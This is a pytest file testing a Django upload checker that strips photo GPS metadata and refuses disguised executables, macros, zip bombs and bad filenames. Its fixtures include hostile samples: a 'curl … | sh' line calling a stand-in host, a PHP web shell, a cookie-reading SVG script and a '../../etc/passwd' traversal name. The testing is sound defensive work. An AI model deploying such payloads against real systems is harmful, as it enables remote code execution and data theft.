import io
import re
import zipfile
from datetime import UTC, datetime

import docx
import openpyxl
import pytest
import time_machine
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, PngImagePlugin
from pypdf import PdfWriter

from tests.factories.words import oversized_docx
from thidua.core.uploads import (
    PARSED_WORD_MAX_UNPACKED_BYTES,
    CheckedUpload,
    UploadKind,
    check_upload,
    random_storage_name,
    sanitize_filename,
)

ALL = set(UploadKind)
IMAGES = {UploadKind.IMAGE}
GPS_IFD = 0x8825
MB = 1024 * 1024


# --- builders -------------------------------------------------------------------------------


def _exif_with_gps(orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "Secret Camera Co."  # Make
    exif[0x0131] = "secret-firmware"  # Software
    if orientation is not None:
        exif[0x0112] = orientation
    gps = exif.get_ifd(GPS_IFD)
    gps[1] = "N"
    gps[2] = (21.0, 11.0, 0.0)
    gps[3] = "E"
    gps[4] = (106.0, 4.0, 0.0)
    return exif


def _image_bytes(fmt: str, size=(1200, 800), mode="RGB", **save) -> bytes:
    im = Image.new(mode, size, "red" if mode in {"RGB", "RGBA"} else 1)
    buffer = io.BytesIO()
    im.save(buffer, format=fmt, **save)
    return buffer.getvalue()


def _jpeg_with_gps(size=(1200, 800), orientation: int | None = None) -> bytes:
    data = _image_bytes(
        "JPEG",
        size,
        exif=_exif_with_gps(orientation),
        comment=b"secret comment",
        xmp=b"<x:xmpmeta><exif:GPSLatitude>21,11N</exif:GPSLatitude></x:xmpmeta>",
    )
    with Image.open(io.BytesIO(data)) as im:  # the fixture really carries GPS
        assert im.getexif().get_ifd(GPS_IFD)[2] == (21.0, 11.0, 0.0)
        assert "xmp" in im.info
    return data


def _png_with_metadata() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "secret")
    return _image_bytes("PNG", (640, 960), mode="RGBA", exif=_exif_with_gps(), pnginfo=info)


def _webp_with_gps() -> bytes:
    data = _image_bytes("WEBP", (800, 600), exif=_exif_with_gps())
    with Image.open(io.BytesIO(data)) as im:
        assert im.getexif().get_ifd(GPS_IFD)
    return data


def _pdf_bytes(**encrypt) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if encrypt:
        writer.encrypt(**encrypt)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _docx_bytes() -> bytes:
    document = docx.Document()
    document.add_paragraph("Báo cáo thành tích thi đua năm 2025")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def _xlsx_bytes() -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["Đơn vị", "Điểm"])
    sheet.append(["Phường Vũ Ninh", 95])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _with_extra_member(source: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(source)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for item in src.infolist():
            dst.writestr(item, src.read(item))
        dst.writestr(name, content)
    return out.getvalue()


def _zip_bomb_docx(member_bytes: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        zf.writestr("word/document.xml", '<?xml version="1.0"?><w:document/>')
        chunk = bytes(MB)
        with zf.open("word/media/padding.bin", "w", force_zip64=True) as member:
            for _ in range(member_bytes // MB):
                member.write(chunk)
    return out.getvalue()


def _refusal(data: bytes, name: str, allowed=ALL, **kwargs) -> ValidationError:
    with pytest.raises(ValidationError) as excinfo:
        check_upload(io.BytesIO(data), allowed=allowed, name=name, **kwargs)
    return excinfo.value


def _assert_clean(content: bytes) -> None:
    with Image.open(io.BytesIO(content)) as im:
        exif = im.getexif()
        assert len(exif) == 0
        assert not exif.get_ifd(GPS_IFD)
        for key in ("exif", "xmp", "comment", "Comment"):
            assert key not in im.info
    for marker in (b"Exif\x00\x00", b"Secret Camera", b"secret", b"GPSLatitude", b"xmpmeta"):
        assert marker not in content


# --- images ---------------------------------------------------------------------------------


def test_jpeg_is_reencoded_without_gps_exif_or_xmp():
    original = _jpeg_with_gps()
    checked = check_upload(io.BytesIO(original), allowed=IMAGES, name="ảnh hiện trường.jpg")
    assert isinstance(checked, CheckedUpload)
    assert checked.kind is UploadKind.IMAGE
    assert (checked.extension, checked.content_type) == (".jpg", "image/jpeg")
    assert checked.original_name == "ảnh hiện trường.jpg"
    assert checked.content != original
    assert checked.size == len(checked.content)
    assert (checked.width, checked.height) == (1200, 800)
    _assert_clean(checked.content)
    assert checked.thumbnail is not None
    with Image.open(io.BytesIO(checked.thumbnail)) as thumb:
        assert thumb.format == "JPEG"
        assert thumb.size == (480, 320)


def test_exif_orientation_is_applied_before_the_metadata_is_dropped():
    checked = check_upload(
        io.BytesIO(_jpeg_with_gps((300, 200), orientation=6)), allowed=IMAGES, name="a.jpg"
    )
    assert (checked.width, checked.height) == (200, 300)
    _assert_clean(checked.content)
    with Image.open(io.BytesIO(checked.content)) as im:
        assert im.size == (200, 300)


def test_png_stays_png_without_metadata_and_keeps_transparency():
    checked = check_upload(io.BytesIO(_png_with_metadata()), allowed=IMAGES, name="logo.png")
    assert (checked.extension, checked.content_type) == (".png", "image/png")
    _assert_clean(checked.content)
    with Image.open(io.BytesIO(checked.content)) as im:
        assert im.format == "PNG"
        assert im.mode == "RGBA"
    assert checked.thumbnail is not None
    with Image.open(io.BytesIO(checked.thumbnail)) as thumb:
        assert thumb.size == (320, 480)


def test_webp_becomes_jpeg_without_gps():
    checked = check_upload(io.BytesIO(_webp_with_gps()), allowed=IMAGES, name="anh.webp")
    assert (checked.extension, checked.content_type) == (".jpg", "image/jpeg")
    _assert_clean(checked.content)
    with Image.open(io.BytesIO(checked.content)) as im:
        assert im.format == "JPEG"
        assert im.mode == "RGB"
    assert checked.thumbnail is not None
    with Image.open(io.BytesIO(checked.thumbnail)) as thumb:
        assert max(thumb.size) <= 480


def test_small_image_thumbnail_is_not_enlarged():
    checked = check_upload(io.BytesIO(_image_bytes("PNG", (100, 50))), allowed=IMAGES)
    assert checked.thumbnail is not None
    with Image.open(io.BytesIO(checked.thumbnail)) as thumb:
        assert thumb.size == (100, 50)


def test_django_uploaded_file_with_lying_content_type_and_read_position():
    upload = SimpleUploadedFile("ảnh.jpg", _jpeg_with_gps(), content_type="application/pdf")
    upload.read(10)  # form validation may already have read it
    checked = check_upload(upload, allowed=IMAGES)
    assert checked.original_name == "ảnh.jpg"
    assert checked.content_type == "image/jpeg"


@pytest.mark.parametrize(
    "payload",
    [
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(200),  # Windows PE
        b"\x7fELF\x02\x01\x01\x00" + bytes(200),  # Linux executable
        b"#!/bin/sh\ncurl http://example.invalid/x | sh\n",  # shell script
        b"<?php system($_GET['c']); ?>",
    ],
    ids=["exe", "elf", "shell", "php"],
)
def test_renamed_executable_is_refused_as_an_image(payload):
    error = _refusal(payload, "anh.jpg", allowed=IMAGES)
    assert error.code == "invalid_image"
    assert error.messages == ["Tệp “anh.jpg” không phải là ảnh hợp lệ (chỉ nhận JPEG, PNG, WebP)."]


def test_executable_is_refused_with_the_allowed_list():
    error = _refusal(b"MZ" + bytes(500), "x.exe")
    assert error.code == "not_allowed"
    assert error.messages == [
        "Loại tệp của “x.exe” không được phép. Chỉ nhận: ảnh, PDF, Word (.docx), Excel (.xlsx)."
    ]


@pytest.mark.parametrize("name", ["logo.svg", "logo.png"])
def test_svg_with_script_is_refused(name):
    svg = (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
        b"<script>alert(document.cookie)</script></svg>"
    )
    error = _refusal(svg, name, allowed=IMAGES)
    assert error.code == "svg"
    assert f"“{name}”" in error.messages[0]
    assert "SVG" in error.messages[0]


def test_gif_is_refused():
    error = _refusal(_image_bytes("GIF", (20, 20)), "dong.gif", allowed=IMAGES)
    assert error.code == "invalid_image"
    assert "JPEG, PNG, WebP" in error.messages[0]


def test_heic_is_refused_with_a_hint_to_use_jpeg():
    heic = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(100)
    error = _refusal(heic, "IMG_0001.HEIC", allowed=IMAGES)
    assert error.code == "heic"
    assert "JPEG" in error.messages[0]
    assert "“IMG_0001.HEIC”" in error.messages[0]


def test_truncated_jpeg_is_refused():
    error = _refusal(_jpeg_with_gps()[:400], "hong.jpg", allowed=IMAGES)
    assert error.code == "invalid_image"


@pytest.mark.parametrize(
    "size",
    [(8000, 6000), (10000, 10000), (14000, 14000)],
    ids=["over-our-40MP", "pillow-warning", "pillow-error"],
)
def test_decompression_bomb_is_refused(size):
    bomb = _image_bytes("PNG", size, mode="1", optimize=True)
    assert len(bomb) < MB  # tiny file, huge canvas
    error = _refusal(bomb, "bom.png", allowed=IMAGES)
    assert error.code == "image_too_large"
    assert "40 megapixel" in error.messages[0]
    assert "“bom.png”" in error.messages[0]


# --- size -----------------------------------------------------------------------------------


def test_oversize_file_is_refused_with_the_default_limit():
    upload = SimpleUploadedFile("x.pdf", b"%PDF-1.7\n" + bytes(10 * MB))
    with pytest.raises(ValidationError) as excinfo:
        check_upload(upload, allowed=ALL)
    assert excinfo.value.code == "too_large"
    assert excinfo.value.messages == ["Tệp “x.pdf” quá lớn (tối đa 10 MB)."]


def test_oversize_stream_is_read_only_up_to_the_limit():
    stream = io.BytesIO(b"%PDF-1.7\n" + bytes(5 * MB))
    with pytest.raises(ValidationError) as excinfo:
        check_upload(stream, allowed=ALL, max_bytes=MB, name="lon.pdf")
    assert stream.tell() == MB + 1
    assert excinfo.value.messages == ["Tệp “lon.pdf” quá lớn (tối đa 1 MB)."]


def test_file_exactly_at_the_limit_is_accepted():
    pdf = _pdf_bytes()
    checked = check_upload(io.BytesIO(pdf), allowed=ALL, max_bytes=len(pdf))
    assert checked.size == len(pdf)


def test_empty_file_is_refused():
    error = _refusal(b"", "trong.pdf")
    assert error.code == "empty"
    assert error.messages == ["Tệp “trong.pdf” trống."]


# --- PDF ------------------------------------------------------------------------------------


def test_valid_pdf_is_accepted_unchanged():
    pdf = _pdf_bytes()
    checked = check_upload(io.BytesIO(pdf), allowed={UploadKind.PDF}, name="Quyết định.pdf")
    assert checked.kind is UploadKind.PDF
    assert checked.content == pdf
    assert (checked.extension, checked.content_type) == (".pdf", "application/pdf")
    assert (checked.width, checked.height, checked.thumbnail) == (None, None, None)


def test_fake_pdf_is_refused():
    error = _refusal(b"%PDF-1.7\n" + b"garbage \x00\xff" * 200, "gia.pdf")
    assert error.code == "invalid_pdf"
    assert error.messages[0].startswith("Tệp “gia.pdf” không phải là tệp PDF hợp lệ")


def test_pdf_with_a_user_password_is_refused():
    error = _refusal(_pdf_bytes(user_password="bi-mat", owner_password="chu"), "mat.pdf")
    assert error.code == "encrypted_pdf"
    assert "mật khẩu" in error.messages[0]


def test_pdf_encrypted_with_an_empty_user_password_is_accepted():
    pdf = _pdf_bytes(user_password="", owner_password="chu")
    assert check_upload(io.BytesIO(pdf), allowed=ALL).kind is UploadKind.PDF


# --- DOCX / XLSX ----------------------------------------------------------------------------


def test_valid_docx_is_accepted():
    checked = check_upload(io.BytesIO(_docx_bytes()), allowed=ALL, name="bao-cao.docx")
    assert checked.kind is UploadKind.DOCX
    assert checked.extension == ".docx"
    assert checked.content_type.endswith("wordprocessingml.document")


def test_valid_xlsx_is_accepted():
    checked = check_upload(io.BytesIO(_xlsx_bytes()), allowed=ALL, name="diem.xlsx")
    assert checked.kind is UploadKind.XLSX
    assert checked.extension == ".xlsx"
    assert checked.content_type.endswith("spreadsheetml.sheet")


def test_xlsx_renamed_to_docx_is_stored_as_xlsx():
    checked = check_upload(io.BytesIO(_xlsx_bytes()), allowed=ALL, name="bao-cao.docx")
    assert checked.kind is UploadKind.XLSX


def test_zip_bomb_disguised_as_docx_is_refused():
    bomb = _zip_bomb_docx(200 * MB)
    assert len(bomb) < MB
    error = _refusal(bomb, "bao-cao.docx")
    assert error.code == "zip_bomb"
    assert "“bao-cao.docx”" in error.messages[0]


def test_highly_compressed_member_is_refused_even_under_the_total_limit():
    error = _refusal(_zip_bomb_docx(5 * MB), "nho.docx")
    assert error.code == "zip_bomb"


def test_docx_with_vba_project_is_refused():
    docm = _with_extra_member(_docx_bytes(), "word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(64))
    error = _refusal(docm, "macro.docx")
    assert error.code == "macro"
    assert error.messages[0].startswith("Tệp “macro.docx” chứa macro")


def test_macro_enabled_content_type_is_refused():
    source = _docx_bytes()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            content = src.read(item)
            if item.filename == "[Content_Types].xml":
                content = content.replace(
                    b"wordprocessingml.document.main+xml",
                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
                )
            dst.writestr(item, content)
    assert _refusal(out.getvalue(), "m.docx").code == "macro"


def test_plain_zip_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("readme.txt", "hello")
    error = _refusal(out.getvalue(), "tai-lieu.docx")
    assert error.code == "invalid_office"


def test_legacy_office_file_is_refused_with_a_hint():
    error = _refusal(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "cu.doc")
    assert error.code == "legacy_office"
    assert ".docx" in error.messages[0]


# --- allow-list -----------------------------------------------------------------------------


def test_pdf_refused_when_only_images_are_allowed():
    error = _refusal(_pdf_bytes(), "bao-cao.pdf", allowed=IMAGES)
    assert error.code == "not_allowed"
    assert error.messages == ["Loại tệp của “bao-cao.pdf” không được phép. Chỉ nhận: ảnh."]


@pytest.mark.parametrize(
    ("builder", "allowed", "listed"),
    [
        (_docx_bytes, {UploadKind.XLSX}, "Excel (.xlsx)"),
        (_xlsx_bytes, {UploadKind.DOCX, UploadKind.PDF}, "PDF, Word (.docx)"),
        (_jpeg_with_gps, {UploadKind.PDF}, "PDF"),
    ],
)
def test_allowed_kinds_are_enforced(builder, allowed, listed):
    error = _refusal(builder(), "tep", allowed=allowed)
    assert error.code == "not_allowed"
    assert error.messages[0].endswith(f"Chỉ nhận: {listed}.")


# --- names ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\An\\Ảnh đẹp.jpg", "Ảnh đẹp.jpg"),
        ("photo\u202egpj.exe", "photogpj.exe"),
        ("a\x00b\tc.pdf", "ab c.pdf"),
        ('bad<>:"|?*.pdf', "bad.pdf"),
        ("   ...", "không tên"),
        ("", "không tên"),
    ],
)
def test_sanitize_filename(raw, expected):
    assert sanitize_filename(raw) == expected


def test_long_name_is_cut_to_200_characters_keeping_the_extension():
    name = sanitize_filename("Báo cáo " * 60 + ".docx")
    assert len(name) <= 200
    assert name.endswith(".docx")


def test_message_uses_the_sanitised_name():
    error = _refusal(b"MZ" + bytes(10), "../../x\u202e.exe")
    assert "“x.exe”" in error.messages[0]


# --- storage names --------------------------------------------------------------------------


@time_machine.travel(datetime(2025, 3, 31, 18, 30, tzinfo=UTC), tick=False)
def test_random_storage_name_uses_local_month_and_checked_extension():
    checked = check_upload(io.BytesIO(_pdf_bytes()), allowed=ALL, name="ảnh.jpg")
    first = random_storage_name(checked, "evidence/")
    second = random_storage_name(checked, "evidence")
    # 18:30 UTC on 31 March is already 1 April in Hà Nội.
    assert re.fullmatch(r"evidence/2025/04/[0-9a-f]{32}\.pdf", first)
    assert first != second


def test_a_phones_50_megapixel_photo_is_kept_at_half_size_upright_without_its_location():
    """A 50 MP phone mode (8160 × 6120) is above the 40 MP decoded at most: the JPEG is read at
    half size instead of refused, still turned upright and stripped of its GPS location."""
    photo = _jpeg_with_gps((8160, 6120), orientation=6)
    checked = check_upload(io.BytesIO(photo), allowed=IMAGES, name="IMG_50MP.jpg")
    assert (checked.width, checked.height) == (3060, 4080)  # half size, turned upright
    with Image.open(io.BytesIO(checked.content)) as stored:
        assert stored.size == (3060, 4080)
        assert not stored.getexif()


@pytest.mark.parametrize(
    "parts",
    [
        ("word/document.xml",),
        ("word/main.dat",),  # the real main part renamed, a tiny document.xml as decoy
        ("word/document.xml", "word/header1.xml", "word/header2.xml", "word/footer1.xml"),
    ],
    ids=["main-part", "renamed-part", "spread-over-headers"],
)
def test_a_word_file_read_by_the_server_is_bounded_in_all_its_parts(parts):
    """python-docx reads every XML part it is pointed to, whatever its name: a Word file the
    server reads is bounded by all it unpacks to (docs/security.md R29), not part by part."""
    megabytes = 21 if len(parts) == 1 else 6  # 24 MB in all, each part under 20 MB
    data = oversized_docx(megabytes, parts=parts)
    assert len(data) < 10 * MB
    with pytest.raises(ValidationError) as excinfo:
        check_upload(
            io.BytesIO(data),
            allowed={UploadKind.DOCX},
            name="ke-hoach.docx",
            max_word_unpacked_bytes=PARSED_WORD_MAX_UNPACKED_BYTES,
        )
    assert excinfo.value.code == "word_too_large"
    # the same file only stored (evidence, a dossier) keeps the ZIP-bomb limits alone
    assert check_upload(io.BytesIO(data), allowed={UploadKind.DOCX}, name="ke-hoach.docx")
